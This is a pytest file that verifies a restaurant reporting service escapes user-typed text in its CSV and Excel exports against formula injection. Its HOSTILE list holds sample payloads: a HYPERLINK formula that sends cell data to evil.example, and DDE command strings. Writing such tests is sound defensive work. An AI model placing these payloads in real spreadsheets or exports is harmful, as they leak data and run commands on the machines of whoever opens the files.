"""Formula injection: text people typed (dish, store and coupon names, refund reasons, an outside bill's order
numbers) reaches every report CSV and the Excel workbook as text, never as a live formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from diancan.services.spreadsheets import FORMULA_STARTS, csv_text, safe_cell

pytestmark = pytest.mark.unit

DAY = date(2026, 11, 24)
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


def _hostile(n: int) -> str:
    return HOSTILE[n % len(HOSTILE)]


def _report() -> dict:
    """A chain report of one day as report_build makes it (the domain's own figures), with hostile text in
    every place a person could type it, and more refunded than paid (negative net)."""
    from diancan.domain.forecast import DayProfile, central_kitchen, forecast
    from diancan.domain.payments import GENESIS
    from diancan.domain.reconciliation import BillLine, ChainCheck, reconcile
    from diancan.domain.report_facts import CouponIssue, LineFact, OrderFact, RefundFact, Review
    from diancan.domain.reports import ReportBook

    book = ReportBook("sh-jingan", DAY, DAY)
    for n in range(6):
        line = LineFact(f"d{n}", _hostile(n), 2, 3000, 1000)
        book.add_order(OrderFact(f"T{n}", "sh-jingan", f"g{n}", "takeout", DAY, 11 + n, DAY.weekday(), True,
                                 3000, 0, (), (line,)))
        book.add_review(Review("sh-jingan", f"T{n}", {f"d{n}": 2 + n % 4}, _hostile(n + 1), DAY))
    for n in range(4):
        book.add_refund(RefundFact("sh-jingan", f"T{n}", 9000, DAY, reason=_hostile(n + 2)))
    profile = DayProfile(DAY, {12: 5}, {f"d{n}": 4 for n in range(6)}, {f"d{n}": _hostile(n) for n in range(6)})
    prep = forecast(date(2026, 12, 1), [profile])
    bill = [BillLine("2026-11-24 12:00:00", _hostile(n + 3), f"42{n}", 100) for n in range(3)]
    recon = reconcile(DAY, [], bill, orders={}, paid_on_day=[], refunds={},
                      chains={"sh-jingan": ChainCheck(0, GENESIS)})
    sales = book.sales()
    return {"title": "全部门店 日报表", "built_at": "2026-11-25T02:30:00Z", "time_zone": "Asia/Shanghai",
            "start": DAY.isoformat(), "end": DAY.isoformat(), "sales": sales, "dishes": book.dish_figures(),
            "time": book.time_figures(),
            "marketing": book.marketing([CouponIssue(f"tpl{n}", _hostile(n + 4), 10) for n in range(3)], {}),
            "members": book.members({}), "feedback": book.feedback(), "operations": book.operations(),
            "stores": [{"store_id": "sh-jingan", "name": _hostile(5),
                        **{k: v for k, v in sales.items() if not isinstance(v, (list, dict))}}],
            "forecast": prep, "central_kitchen_prep": {"target_day": "2026-11-25", "dishes": central_kitchen([prep["prep"]])},
            "reconciliation": recon}


@pytest.fixture(scope="module")
def files() -> dict:
    from diancan.services.report_render import render

    return render(_report())


def _formula_like(text: str) -> bool:
    return text.lstrip(" ").startswith(FORMULA_STARTS)


TYPED = {"dishes.csv": "name", "menu_engineering.csv": "name", "ratings.csv": "name",
         "refunds_by_reason.csv": "reason", "coupons.csv": "label", "stores.csv": "name",
         "forecast_prep.csv": "name", "central_kitchen_prep.csv": "name", "reconciliation.csv": "order_id"}


def test_every_csv_the_report_writes_is_checked_here(files):
    written = {name for name in files if name.endswith(".csv")}
    assert set(TYPED) <= written
    assert written - set(TYPED) <= {"sales_by_hour.csv", "sales_by_day.csv", "sales_by_mode.csv", "sales_by_channel.csv",
                                      "weekdays.csv"}


def _read(body: str) -> list[dict]:
    """Rows of a CSV the way a strict reader sees them: quoted cells are text, unquoted ones must be numbers
    (the reader raises on an unquoted word, so this also proves every text cell is quoted)."""
    header, *rows = csv.reader(io.StringIO(body.lstrip("\ufeff"), newline=""), quoting=csv.QUOTE_NONNUMERIC)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("name", sorted(TYPED))
def test_typed_text_in_each_csv_export_is_neutralised(files, name):
    body, content_type = files[name]
    assert content_type == "text/csv; charset=utf-8" and body.startswith("\ufeff")
    rows = _read(body)
    typed = [row[TYPED[name]] for row in rows]
    assert typed and all(value.startswith("'") for value in typed), typed
    assert {value[1:] for value in typed} <= set(HOSTILE)  # the text itself is kept, behind the quote
    for row in rows:
        assert not any(isinstance(cell, str) and _formula_like(cell) for cell in row.values()), row


def test_numbers_stay_numbers_in_csv_even_when_negative(files):
    values = _read(files["stores.csv"][0])[0]
    assert values["net_fen"] == -18000  # 6 × 30 yuan paid, 4 × 90 yuan refunded; unquoted, so a number
    assert values["name"] == "'" + _hostile(5)


def test_the_workbook_holds_typed_text_as_text_and_numbers_as_numbers(files):
    from openpyxl import load_workbook

    body, _ = files["report.xlsx"]
    book = load_workbook(io.BytesIO(body))
    typed_sheets = {name.removesuffix(".csv")[:31] for name in TYPED}
    assert typed_sheets <= set(book.sheetnames)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
                    seen += cell.value.startswith("'")
    assert seen >= len(TYPED)
    stores = book["stores"]
    header = [c.value for c in stores[1]]
    net = stores.cell(row=2, column=header.index("net_fen") + 1)
    assert net.value == -18000 and net.data_type == "n"


@pytest.mark.parametrize("value", [*HOSTILE, "-", "@", "=", "\n=1", "\x00=1", "－5", "＠x"])
def test_safe_cell_prefixes_text_that_starts_like_a_formula(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["宫保鸡丁", "a=b", "1-2", "", "'=already quoted", "e@mail.example"])
def test_safe_cell_keeps_ordinary_text(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-500, 0, 12, 3.5, -0.25, True])
def test_safe_cell_keeps_numbers(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_a_separator_inside_text_cannot_start_a_new_cell():
    body = csv_text([{"reason": "坏了;=1+1", "amount_fen": -500}])
    assert body.splitlines()[1] == '"坏了;=1+1",-500'
